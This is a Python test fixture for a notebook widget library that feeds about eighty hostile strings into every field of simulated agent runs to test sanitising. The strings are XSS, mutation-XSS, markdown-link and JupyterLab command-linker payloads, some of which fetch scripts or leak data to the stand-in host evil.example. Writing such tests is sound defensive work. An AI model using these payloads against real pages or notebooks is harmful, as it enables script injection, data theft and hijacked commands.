"""Texts that try to run, load, imitate or lead away. In a page they set `window.__owned` or ask the host evil.example."""

from collections.abc import Iterable, Iterator

from genie_nb import events as ev
from genie_nb.parts import DocumentPart, ErrorPart, FileRef, ImagePart, Plan, PlanStep, StreamPart, TablePart
from tests.widgets.sample_runs import call, numbered, started, words

RUN = "window.__owned=1"
EVIL = "http://evil.example"
COMMAND = 'data-commandlinker-command="apputils:change-theme" data-commandlinker-args="{}"'
"""What JupyterLab takes for a button of its own: a click on it runs the command."""

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-src": f"<script src={EVIL}/x.js></script>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-unclosed": f"<script>{RUN}//",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-onerror-slash": f"<img/src=x/onerror={RUN}>",
    "img-onload": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{RUN}">',
    "img-remote": f"<img src={EVIL}/a.png>",
    "img-srcset": f'<img srcset="{EVIL}/a.png 1x">',
    "svg-onload": f"<svg onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    "svg-use": f'<svg><use href="{EVIL}/a.svg#x"></svg>',
    "math-mtext": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mxss-style": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mxss-comment": f"<!--><img src=x onerror={RUN}>-->",
    "iframe-js": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe-remote": f"<iframe src={EVIL}></iframe>",
    "object": f'<object data="javascript:{RUN}"></object>',
    "embed": f"<embed src={EVIL}/x.swf>",
    "link-css": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "link-prefetch": f'<link rel=prefetch href="{EVIL}/x">',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}/">',
    "style-import": f"<style>@import url({EVIL}/x.css);</style>",
    "style-attribute": f'<div style="background:url({EVIL}/x.png)">x</div>',
    "style-cover": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    "form": f'<form action="{EVIL}"><button>Stop</button></form>',
    "details-toggle": f"<details open ontoggle={RUN}>x</details>",
    "input-autofocus": f"<input autofocus onfocus={RUN}>",
    "video": f"<video src={EVIL}/v.mp4 onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}>",
    "body-onload": f"<body onload={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "a-javascript": f'<a href="javascript:{RUN}">x</a>',
    "a-data": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "button-action": '<button data-action="cancel">Stop</button>',
    "md-link-javascript": f"[x](javascript:{RUN})",
    "md-link-mixed": f"[x](JaVaScRiPt:{RUN})",
    "md-link-entity": f"[x](&#106;avascript:{RUN})",
    "md-link-tab": f"[x](java\tscript:{RUN})",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-data": f"[x](data:text/html;base64,PHNjcmlwdD57{RUN}</script>)",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-quote": f'[x](http://a.example/"onmouseover="{RUN})',
    "md-link-title": f'[x](http://a.example "\\" onmouseover={RUN} x=\\"")',
    "md-image-remote": f"![x]({EVIL}/a.png?q=secret)",
    "md-image-reference": f"![x][r]\n\n[r]: {EVIL}/b.png",
    "md-image-onerror": f'![x" onerror="{RUN}](x)',
    "md-image-protocol-relative": "![x](//evil.example/a.png)",
    "md-image-bad-host": "![x](http://[evil.example/a.png)",
    "md-autolink": f"<javascript:{RUN}>",
    "md-reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "md-fence-language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "md-fence-close": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "md-table": f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|x|",
    "md-heading": f"# <img src=x onerror={RUN}>",
    "md-list": f"- <script>{RUN}</script>",
    "closes-srcdoc": f'"></iframe><script>{RUN}</script>',
    "closes-attribute": f'" autofocus onfocus="{RUN}" x="',
    "closes-style": f"</style><script>{RUN}</script>",
    "closes-pre": f"</pre></details></div><script>{RUN}</script>",
    "null-byte": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "command-div": f"<div {COMMAND}>x</div>",
    "command-button": f"<button {COMMAND}>x</button>",
    "command-upper": f"<BUTTON {COMMAND.upper()}>x</BUTTON>",
    "command-link": f'<a href="https://a.example" {COMMAND}>x</a>',
    "command-code": f"<code {COMMAND}>x</code>",
    "command-table": f"<table><tr><td {COMMAND}>x</td></tr></table>",
    "command-svg": f"<svg {COMMAND}><text {COMMAND}>x</text></svg>",
    "command-attribute": f'" {COMMAND} x="',
    "command-md-link": f'[x](https://a.example "" {COMMAND} x="")',
    "command-md-fence": f"```html\n<button {COMMAND}>x</button>\n```",
    "command-md-title": f'[x]: http://a.example "t\n```\n"\n<button {COMMAND}>x</button>\n```',
    "command-md-formula": f"\\begin{{a}}\n```\n\\end{{a}}\n<button {COMMAND}>x</button>\n```",
    "command-md-formulas": f"```\n\\begin{{a}}\n```\n\n~~~\n\\end{{a}}\n```\n<button {COMMAND}>x</button>\n~~~",
    "image-md-title": f'[x]: http://a.example "t\n```\n"\n![x]({EVIL}/c.png)\n```',
    "image-md-formula": f"\\begin{{a}}\n```\n\\end{{a}}\n<img src={EVIL}/d.png>\n```",
    "utf7": "+ADw-script+AD4-window.__owned=1+ADw-/script+AD4-",
}


def hostile_run(payloads: Iterable[str]) -> list[ev.RunEvent]:
    """The payloads wherever a model, a tool or a page can put words."""
    listed = list(payloads)
    everything = "\n\n".join(listed)
    inside = [event for number, payload in enumerate(listed) for event in _hostile_task(f"t{number}", payload)]
    return numbered([started(everything), *inside, ev.RunFinished(output=everything)])


def _hostile_task(task_id: str, payload: str) -> Iterator[ev.RunEvent]:
    kinds = ("text/plain", "text/markdown", "application/json", "text/html")
    parts = [
        *(DocumentPart(text=payload, media_type=kind) for kind in kinds),
        StreamPart(text=payload),
        TablePart(columns=(payload,), dtypes=(payload,), rows=((payload,),)),
        ImagePart(content=payload.encode(), media_type="image/svg+xml", alt=payload),
        ErrorPart(name=payload, message=payload, traceback=payload),
    ]
    step = PlanStep(id=task_id, title=payload, stage=payload, note=payload)
    yield ev.PlanUpdated(plan=Plan(title=payload, steps=(step,)))
    yield ev.TaskStarted(task_id=task_id, title=payload, assignee=payload)
    yield from words(f"m{task_id}", payload, "tool_thought", task_id)
    yield from words(f"r{task_id}", payload, "reasoning", task_id)
    yield from words(f"a{task_id}", payload, "answer")
    yield from call(f"c{task_id}", payload, '{"query": "x"}', parts, task_id, payload)
    yield ev.NoteAdded(text=payload, task_id=task_id)
    for kind in ("text/html", "text/markdown", "text/csv"):
        yield ev.FileCreated(file=FileRef(name=f"{task_id} {kind} {payload}", size=1, media_type=kind, sha256=""))
    yield ev.TaskFinished(task_id=task_id, status="failed", summary=payload)
